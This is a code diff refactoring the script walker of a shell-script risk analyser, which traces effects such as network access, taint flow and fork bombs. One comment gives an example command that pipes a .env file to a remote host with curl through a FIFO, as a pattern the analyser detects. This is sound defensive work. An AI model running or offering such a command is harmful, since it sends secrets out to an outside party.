@@ -11,31 +11,24 @@ from redoma.judge.interpret.arg import (
     UNKNOWN,
     Arg,
     Stream,
-    arg,
+    joined,
 )
+from redoma.judge.interpret.branches import compound
 from redoma.judge.interpret.call import Call
 from redoma.judge.interpret.expand import Expander
+from redoma.judge.interpret.frame import Frame
 from redoma.judge.interpret.patterns import has_glob
 from redoma.judge.interpret.redirects import Redirects, settle
+from redoma.judge.interpret.simple import simple
 from redoma.judge.interpret.state import Files, Ground, State
 from redoma.judge.shell import parse
 from redoma.model.risk import Effect, Fact, Target
 from redoma.model.script import (
-    ArithmeticCommand,
-    Assignment,
-    Block,
-    Case,
-    Coprocess,
-    For,
-    ForArithmetic,
     Function,
-    If,
     Pipeline,
     Sequence,
     Simple,
-    Test,
     Unread,
-    While,
 )
 
 TYPE_CHECKING = False
@@ -43,33 +36,15 @@ if TYPE_CHECKING:
     from collections.abc import Callable
 
     from redoma.judge.programs.knowledge import Knowledge
-    from redoma.model.script import Command, ProcessSubstitution, Script, Span, Word
+    from redoma.model.script import Command, ProcessSubstitution, Script, Span
 
 MOST_STEPS = 1500
 MOST_NESTED_TEXT = 131072
 DEEPEST = 24
-MOST_ROUNDS = 6
 
 
 class TooMuch(Exception):
     """The script asks for more steps than a judgement may take."""
-
-
-class Frame:
-    """How spans of a nested text map to the text that the caller wrote."""
-
-    __slots__ = ("offset", "span")
-
-    def __init__(self, span: Span | None, offset: int | None) -> None:
-        self.span = span
-        self.offset = offset
-
-    def outer(self, span: Span) -> Span:
-        if self.span is None:
-            return span
-        if self.offset is None:
-            return self.span
-        return (span[0] + self.offset, span[1] + self.offset)
 
 
 class Walker:
@@ -87,6 +62,8 @@ class Walker:
         self.depth = 0
         self.forks = 0
         self.running: dict[str, int] = {}
+        self.locals: dict[str, Arg | None] = {}
+        """What the names that the running function made its own meant before."""
         self.uncalled: dict[str, tuple[Function, State]] = {}
         self.frame = Frame(None, None)
         self.privileged = False
@@ -133,7 +110,8 @@ class Walker:
         if positional is not None:
             state.positional = positional
         try:
-            return self.script(parse(str(text).replace(UNKNOWN, "$__unknown"), extglob=self.extglob), state, stdin)
+            known = str(text).replace(UNKNOWN, "$__unknown")
+            return self.script(parse(known, extglob=self.extglob), state, stdin)
         finally:
             self.depth -= 1
             self.frame = before
@@ -168,7 +146,10 @@ class Walker:
     def process_substitution(self, part: ProcessSubstitution, state: State) -> str:
         """A name such as /dev/fd/63 that stands for the other end."""
         if part.direction == "<":
-            return self.files.descriptor(self.substitute(part.script, state))
+            stream = self.substitute(part.script, state)
+            if stream.taint & NETWORK:
+                self.note(Effect.NETWORK, part.span, tags=("spliced",))
+            return self.files.descriptor(stream)
         then = state.copy()
         return self.reader(lambda stream: self.script(part.script, then.copy(), stream))
 
@@ -216,6 +197,8 @@ class Walker:
             ending = after[index] if index < len(after) else ""
             if state.stdin is not None:
                 stdin = state.stdin
+            doubtful = bool(index) and after[index - 1] in ("&&", "||")
+            self.files.doubts += doubtful
             if ending == "&":
                 waiting.append((command, state.copy(), self.files.changes))
                 self.forks += 1
@@ -227,13 +210,14 @@ class Walker:
                 state.blur(before)
             else:
                 outputs.append(self.command(command, state, stdin))
+            self.files.doubts -= doubtful
             if "1" in state.descriptors and outputs[-1] is not NOTHING:
                 self.flow_out(state, outputs[-1])
         for command, then, changes in waiting:
             # `curl -d @fifo host & cat .env > fifo`: what runs beside reads what comes later.
             if self.files.changes > changes:
                 self.command(command, then, stdin)
-        return _joined(outputs)
+        return joined(outputs)
 
     def flow_out(self, state: State, out: Stream) -> None:
         """After `exec >file`, what a command prints goes there."""
@@ -244,7 +228,7 @@ class Walker:
         self.step()
         kind = type(node)
         if kind is Simple:
-            return self.simple(node, state, stdin)  # type: ignore[arg-type]
+            return simple(self, node, state, stdin)  # type: ignore[arg-type]
         if kind is Pipeline:
             return self.pipeline(node, state, stdin)  # type: ignore[arg-type]
         if kind is Sequence:
@@ -257,91 +241,10 @@ class Walker:
         self.depth += 1
         try:
             redirects = Redirects(self, node.redirects, state, stdin)
-            out = self.compound(node, state, redirects.stdin)
+            out = compound(self, node, state, redirects.stdin)
             return redirects.finish(out)
         finally:
             self.depth -= 1
-
-    def compound(self, node: Command, state: State, stdin: Stream) -> Stream:
-        if isinstance(node, Block):
-            return self.sequence(node.body, state.copy() if node.subshell else state, stdin)
-        if isinstance(node, If):
-            return self.conditional(node, state, stdin)
-        if isinstance(node, While):
-            before = state.copy()
-            self.sequence(node.condition, state, stdin)
-            out = self.sequence(node.body, state, stdin)
-            state.blur(before)
-            return out
-        if isinstance(node, For):
-            return self.loop(node, state, stdin)
-        if isinstance(node, ForArithmetic):
-            self.expander.arithmetic(node.expression, state)
-            return self.sequence(node.body, state, stdin)
-        if isinstance(node, Case):
-            return self.cases(node, state, stdin)
-        if isinstance(node, Function):
-            state.functions[node.name] = node
-            self.uncalled[node.name] = (node, state)
-            return NOTHING
-        if isinstance(node, Coprocess):
-            return self.coprocess(node, state)
-        if isinstance(node, Test):
-            self.expander.words(node.words, state)
-            return NOTHING
-        if isinstance(node, ArithmeticCommand):
-            self.expander.arithmetic(node.expression, state)
-            return NOTHING
-        self.note(Effect.UNKNOWN, node.span, tags=("syntax",))
-        return ANYTHING
-
-    def conditional(self, node: If, state: State, stdin: Stream) -> Stream:
-        outputs: list[Stream] = []
-        for condition, body in node.clauses:
-            self.sequence(condition, state, stdin)
-            before = state.copy()
-            outputs.append(self.sequence(body, state, stdin))
-            state.blur(before)
-        if node.otherwise is not None:
-            before = state.copy()
-            outputs.append(self.sequence(node.otherwise, state, stdin))
-            state.blur(before)
-        return _any_of(outputs)
-
-    def loop(self, node: For, state: State, stdin: Stream) -> Stream:
-        values = list(state.positional) if node.words is None else self.expander.words(node.words, state)
-        if len(values) > MOST_ROUNDS:
-            taint = PLAIN
-            for value in values:
-                taint |= value.taint
-            values = [*values[: MOST_ROUNDS - 1], arg(UNKNOWN, node.span, taint)]
-        outputs: list[Stream] = []
-        before = state.copy()
-        for value in values or [arg(UNKNOWN, node.span)]:
-            state.assign(node.name, value)
-            outputs.append(self.sequence(node.body, state, stdin))
-        if len(values) != 1:
-            state.blur(before)
-        return _joined(outputs)
-
-    def cases(self, node: Case, state: State, stdin: Stream) -> Stream:
-        self.expander.one(node.subject, state)
-        outputs: list[Stream] = []
-        for patterns, body in node.clauses:
-            self.expander.words(patterns, state)
-            before = state.copy()
-            outputs.append(self.sequence(body, state, stdin))
-            state.blur(before)
-        return _any_of(outputs)
-
-    def coprocess(self, node: Coprocess, state: State) -> Stream:
-        # Its input is whatever the script writes to it later: assume the worst it may read.
-        then = state.copy()
-        answers = self.files.descriptor(NOTHING)
-        written = self.reader(lambda stream: self.command(node.body, then.copy(), stream), answers)
-        ends = [state.open(arg(path, node.span)) for path in (answers, written)]
-        state.arrays[node.name or "COPROC"] = [arg(end, node.span) for end in ends]
-        return NOTHING
 
     def pipeline(self, node: Pipeline, state: State, stdin: Stream) -> Stream:
         if len(node.commands) == 1:
@@ -354,94 +257,6 @@ class Walker:
             stream = self.command(command, state if last else state.captured(), stream)
         self.forks -= 1
         return stream
-
-    def simple(self, node: Simple, state: State, stdin: Stream) -> Stream:
-        words = node.words
-        environment: dict[str, Arg] = {}
-        if node.assignments:
-            environment = self.assignments(node.assignments, state, keep=not words)
-        if not words:
-            redirects = Redirects(self, node.redirects, state, stdin)
-            if node.redirects and not node.assignments:
-                self.truncations(node, redirects)
-            return redirects.finish(NOTHING)
-        alias = self._alias(words[0], state)
-        if alias is not None:
-            return self.aliased(alias, node, state, stdin)
-        args: list[Arg] = []
-        plain: list[Word] = []
-        for word in words:
-            if type(word) is Assignment:
-                args.extend(self.expander.words(plain, state))
-                plain = []
-                value = self.expander.one(word.value, state)
-                self.array(word, state)
-                args.append(arg(f"{word.name}={value}", word.span, value.taint))
-            else:
-                plain.append(word)  # type: ignore[arg-type]
-        args.extend(self.expander.words(plain, state))
-        redirects = Redirects(self, node.redirects, state, stdin)
-        if not args:
-            return redirects.finish(NOTHING)
-        call = Call(self, args, state, redirects.stdin, environment, node.span, redirects=redirects)
-        out = redirects.finish(self.run(call))
-        if call.name == "exec" and node.redirects:
-            redirects.keep()
-        return out
-
-    def truncations(self, node: Simple, redirects: Redirects) -> None:
-        redirects.emptied = True
-
-    def assignments(
-        self, assignments: tuple[Assignment, ...], state: State, *, keep: bool
-    ) -> dict[str, Arg]:
-        made: dict[str, Arg] = {}
-        for assignment in assignments:
-            self.step()
-            if assignment.subscript is not None:
-                self.expander.one(assignment.subscript, state)
-            if self.array(assignment, state):
-                continue
-            value = self.expander.one(assignment.value, state)
-            if assignment.append:
-                earlier = state.variables.get(assignment.name, arg(UNKNOWN, assignment.span))
-                value = arg(earlier + value, assignment.span, earlier.taint | value.taint)
-            else:
-                value = arg(value, assignment.span, value.taint)
-            made[assignment.name] = value
-            shell_builtins.judge_variable(self, assignment.name, value, state, kept=keep)
-            if keep and assignment.subscript is None:
-                state.assign(assignment.name, value)
-            elif keep:
-                state.arrays[assignment.name] = [arg(UNKNOWN, assignment.span, value.taint)]
-        return made
-
-    def array(self, assignment: Assignment, state: State) -> bool:
-        if assignment.elements is None:
-            return False
-        for subscript, _ in assignment.elements:
-            if subscript is not None:
-                self.expander.one(subscript, state)
-        items = self.expander.words([value for _, value in assignment.elements], state)
-        earlier = state.arrays.get(assignment.name, []) if assignment.append else []
-        state.arrays[assignment.name] = [*earlier, *items]
-        return True
-
-    def _alias(self, word: Word | Assignment, state: State) -> str | None:
-        if not state.aliases or type(word) is Assignment or len(word.parts) != 1:  # type: ignore[union-attr]
-            return None
-        part = word.parts[0]  # type: ignore[union-attr]
-        if getattr(part, "quoted", True):
-            return None
-        return state.aliases.get(getattr(part, "text", ""))
-
-    def aliased(self, body: str, node: Simple, state: State, stdin: Stream) -> Stream:
-        first = node.words[0]
-        rest = self.text[first.span[1] : node.span[1]] if self.frame.span is None else ""
-        text = arg(f"{body} {rest}", node.span)
-        then = state.copy()
-        then.aliases = {}
-        return self.nested(text, then, stdin)
 
     # Running ----------------------------------------------------------------------------------
 
@@ -477,12 +292,18 @@ class Walker:
                 call.fact(Effect.SYSTEM, tags=("fork-bomb",))
             return ANYTHING
         self.running[name] = self.forks
-        before = call.state.positional
-        call.state.positional = call.args
+        state = call.state
+        before, outer = state.positional, self.locals
+        state.positional = call.args
+        self.locals = {}
         try:
-            return self.command(function.body, call.state, call.stdin)
+            return self.command(function.body, state, call.stdin)
         finally:
-            call.state.positional = before
+            for local, value in self.locals.items():
+                state.forget(local)
+                if value is not None:
+                    state.variables[local] = value
+            state.positional, self.locals = before, outer
             del self.running[name]
 
     # Facts ------------------------------------------------------------------------------------
@@ -515,25 +336,3 @@ class Walker:
 
     def unread(self, node: Unread) -> None:
         self.note(Effect.UNKNOWN, node.span, tags=("syntax",), detail=node.reason)
-
-
-def _joined(outputs: list[Stream]) -> Stream:
-    if len(outputs) == 1:
-        return outputs[0]
-    taint = PLAIN
-    texts: list[str] = []
-    known = True
-    source = ""
-    for stream in outputs:
-        taint |= stream.taint
-        source = source or stream.source
-        if stream.text is None:
-            known = False
-        else:
-            texts.append(stream.text)
-    return Stream("".join(texts) if known else None, taint, source)
-
-
-def _any_of(outputs: list[Stream]) -> Stream:
-    joined = _joined(outputs)
-    return joined if len(outputs) <= 1 else Stream(None, joined.taint, joined.source)
